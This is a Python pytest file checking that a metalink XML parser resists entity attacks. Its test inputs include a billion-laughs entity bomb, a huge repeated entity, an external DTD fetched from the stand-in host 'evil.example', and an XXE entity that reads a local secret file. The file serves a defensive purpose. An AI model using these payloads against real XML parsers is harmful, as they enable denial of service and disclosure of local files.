"""XML that grows or reaches out while it is read: metalinks and other documents that a user drops.

Nothing expands an entity or fetches a document here, so each text of the attack stays a text.
"""

import tracemalloc
from pathlib import Path

import pytest

from components.order.identifiers import parse

NAMES = ["S2A_20200101", "S2A_20200102"]
FILES = "".join(f'<file name="{name}"><size>5</size></file>' for name in NAMES)
LAUGHS = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
LONG = f'<!ENTITY a "{"a" * 50_000}">'


def document(entities: str, text: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE m [{entities}]><metalink>{text}<files>{FILES}</files></metalink>'


def identifiers(text: str) -> list[str]:
    return list(parse(text).identifiers)


def test_names_in_a_metalink_are_read() -> None:
    assert identifiers(f'<?xml version="1.0"?><metalink><files>{FILES}</files></metalink>') == NAMES


@pytest.mark.parametrize(
    ("entities", "text"),
    [
        (f'<!ENTITY l0 "lol">{LAUGHS}', "<title>&l9;</title>"),
        (LONG, f"<title>{'&a;' * 50_000}</title>"),
        ('<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;', ""),
    ],
    ids=["a thousand million laughs", "one long entity, often", "a document elsewhere"],
)
def test_entities_do_not_grow(entities: str, text: str) -> None:
    bomb = document(entities, text)
    tracemalloc.start()
    try:
        found = identifiers(bomb)
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert set(NAMES) <= set(found) or found == []
    assert not any("lol" in each or "a" * 100 in each for each in found)
    assert most < 20_000_000


def test_an_entity_brings_no_file_of_the_machine(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("THE_SECRET")
    entity = f'<!ENTITY x SYSTEM "{secret.as_uri()}">'
    files = "".join(f'<file name="{name}"/>' for name in ("&x;", "&x;A", *NAMES))
    text = f'<?xml version="1.0"?><!DOCTYPE m [{entity}]><m>{files}</m>'
    assert "THE_SECRET" not in "".join([*identifiers(text), *map(str, parse(text).rejected)])
